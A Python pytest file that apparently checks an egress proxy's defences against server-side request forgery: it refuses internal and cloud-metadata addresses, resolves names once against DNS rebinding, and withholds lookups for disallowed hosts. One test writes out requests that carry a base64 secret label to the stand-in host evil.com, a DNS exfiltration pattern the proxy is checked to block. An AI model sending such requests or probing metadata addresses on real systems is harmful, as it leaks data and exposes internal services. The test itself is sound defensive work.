"""Where a request goes: to an address that was judged, of a host that was resolved once."""

import asyncio

import pytest

from steps.addresses import Address
from tests.proxies import QUICK, Job, job_with_network
from tests.servers import Names, Site, local, site

HOST = "api.example.com"


def get(port: int, host: str = HOST) -> bytes:
    return f"GET http://{host}:{port}/x HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode()


async def ask(job: Job, server: Site) -> bytes:
    server.answer("/x", b"reached")
    return await job.ask(get(server.port))


INTERNAL = [
    ["127.0.0.1"],
    ["0.0.0.0"],
    ["10.1.2.3"],
    ["172.16.0.1"],
    ["172.31.255.255"],
    ["192.168.0.1"],
    ["169.254.169.254"],
    ["168.63.129.16"],
    ["100.64.0.0"],
    ["100.127.255.255"],
    ["100.100.100.200"],
    ["224.0.0.1"],
    ["255.255.255.255"],
    ["::1"],
    ["::"],
    ["::ffff:127.0.0.1"],
    ["::ffff:8.8.8.8"],
    ["::127.0.0.1"],
    ["64:ff9b::127.0.0.1"],
    ["64:ff9b:1::1"],
    ["2002:7f00:1::"],
    ["2001::1"],
    ["2a00:1450::5efe:127.0.0.1"],
    ["fe80::1"],
    ["fe80::1%lo"],
    ["fc00::1"],
    ["fd00:ec2::254"],
    ["ff02::1"],
    # mixed answers
    ["8.8.8.8", "127.0.0.1"],
    ["127.0.0.1", "8.8.8.8"],
    ["2606:4700::1111", "8.8.8.8", "10.0.0.1"],
    ["8.8.8.8", "::ffff:10.0.0.1"],
]


@pytest.mark.parametrize("addresses", INTERNAL, ids=" ".join)
async def test_one_internal_address_refuses_the_host(addresses: list[str]) -> None:
    """However the name leads there: by a record of its own, or by an alias (CNAME), which the system follows."""
    async with job_with_network(HOST, names=Names({HOST: [addresses]})) as job:
        answer = await job.ask(f"CONNECT {HOST}:443 HTTP/1.0\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 403 ")
    assert b"not on the public Internet; only an administrator can open it: `internal: " in answer
    assert all(address.encode() not in answer for address in addresses)
    assert [(one.allowed, one.address) for one in job.decisions] == [(False, None)]


async def test_an_internal_destination_opens_where_the_flow_and_the_administrator_name_it() -> None:
    async with (
        site() as server,
        job_with_network(f"{HOST}:{server.port}", names=local(HOST), internal=(f"{HOST}:{server.port}",)) as job,
    ):
        assert (await ask(job, server)).endswith(b"reached")
    assert [(one.host, one.port, one.address, one.allowed) for one in job.decisions] == [
        (HOST, server.port, "127.0.0.1", True)
    ]
    ((sent, received, reason),) = job.ends.values()
    assert sent == len(server.heads[0])
    assert received == len(server.answers["/x"])
    assert reason is None


@pytest.mark.parametrize(
    "internal", ["other.example.com:{}", "www.api.example.com:{}", "api.example.com:1", "127.0.0.1:{}"]
)
async def test_an_internal_destination_is_exactly_a_host_and_a_port(internal: str) -> None:
    async with (
        site() as server,
        job_with_network(f"{HOST}:{server.port}", names=local(HOST), internal=(internal.format(server.port),)) as job,
    ):
        assert (await ask(job, server)).startswith(b"HTTP/1.1 403 ")
    assert server.connections == 0


async def test_what_the_administrator_opens_is_not_open_to_a_flow_that_does_not_name_it() -> None:
    async with (
        site() as server,
        job_with_network("other.example.com", names=local(HOST), internal=(f"{HOST}:{server.port}",)) as job,
    ):
        assert (await ask(job, server)).startswith(b"HTTP/1.1 403 ")
    assert (server.connections, job.names.asked) == (0, [])


async def test_a_name_that_changes_between_check_and_connection_is_resolved_once() -> None:
    """DNS rebinding: the second answer, which nobody asks for, would be where the server is."""
    async with site() as server:
        entry = f"{HOST}:{server.port}"
        names = Names({HOST: [["127.0.0.2"], ["127.0.0.1"]]})
        async with job_with_network(entry, names=names, internal=(entry,)) as job:
            answer = await ask(job, server)
    assert answer.startswith(b"HTTP/1.1 502 ")
    assert (server.connections, names.asked) == (0, [HOST])
    assert [one.allowed for one in job.decisions] == [True]


async def test_each_request_is_judged_anew() -> None:
    async with site() as server:
        names = Names({HOST: [["127.0.0.1"], ["127.0.0.2"]]})
        entry = f"{HOST}:{server.port}"
        async with job_with_network(entry, names=names, internal=(entry,)) as job:
            assert (await ask(job, server)).endswith(b"reached")
            assert (await ask(job, server)).startswith(b"HTTP/1.1 502 ")
    assert names.asked == [HOST, HOST]


async def test_the_next_address_is_tried_where_one_does_not_answer() -> None:
    async with site() as server:
        entry = f"{HOST}:{server.port}"
        names = Names({HOST: [["127.0.0.2", "::1", "127.0.0.3", "127.0.0.1"]]})
        async with job_with_network(entry, names=names, internal=(entry,)) as job:
            assert (await ask(job, server)).endswith(b"reached")
    assert [one.address for one in job.decisions] == ["127.0.0.1"]


async def test_a_server_that_is_not_there_is_told_and_recorded() -> None:
    async with site() as server:
        pass
    entry = f"{HOST}:{server.port}"
    async with job_with_network(entry, names=local(HOST), internal=(entry,)) as job:
        answer = await ask(job, server)
    assert answer.startswith(b"HTTP/1.1 502 ")
    assert f"{entry} not reached: ".encode() in answer
    assert [(one.allowed, bool(one.reason)) for one in job.decisions] == [(True, True)]
    assert job.notes


async def test_a_name_that_does_not_exist_is_told_and_recorded() -> None:
    async with job_with_network("*.example.com") as job:
        answer = await job.ask(f"CONNECT {HOST}:443 HTTP/1.0\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 502 ")
    assert b"can't be resolved" in answer
    assert [one.allowed for one in job.decisions] == [True]


async def test_a_name_server_that_hangs_holds_up_nothing_else() -> None:
    asked: list[str] = []

    async def hangs(host: str, _port: int) -> tuple[Address, ...]:
        asked.append(host)
        if host.startswith("slow"):
            await asyncio.Event().wait()
        return await local(HOST)(HOST, 0)

    async with site() as server:
        entry = f"{HOST}:{server.port}"
        async with job_with_network(entry, "*.slow.example", names=hangs, internal=(entry,), timeouts=QUICK) as job:  # type: ignore[arg-type] # a resolver of another kind
            hanging = asyncio.create_task(job.ask(b"CONNECT slow.slow.example:443 HTTP/1.0\r\n\r\n"))
            assert (await ask(job, server)).endswith(b"reached")
            answer = await hanging
    assert answer.startswith(b"HTTP/1.1 502 ")
    assert b"slow.slow.example:443 not reached: its name was not resolved within 0.5 s" in answer


async def test_no_name_is_asked_for_that_is_not_allowed() -> None:
    """So that names carry nothing out: the labels of what isn't allowed never leave the host."""
    secret = "c2VjcmV0"  # a label that would tell
    async with job_with_network("api.example.com", names=local(HOST)) as job:
        await job.ask(f"CONNECT {secret}.evil.com:443 HTTP/1.0\r\n\r\n".encode())
        await job.ask(f"CONNECT {secret}.api.example.com:443 HTTP/1.0\r\n\r\n".encode())
        await job.ask(f"GET http://{secret}.evil.com/ HTTP/1.1\r\nHost: {secret}.evil.com\r\n\r\n".encode())
        await job.ask(f"CONNECT {secret}.evil.com:53 HTTP/1.0\r\n\r\n".encode())
    assert job.names.asked == []
    assert len(job.refused) == 4
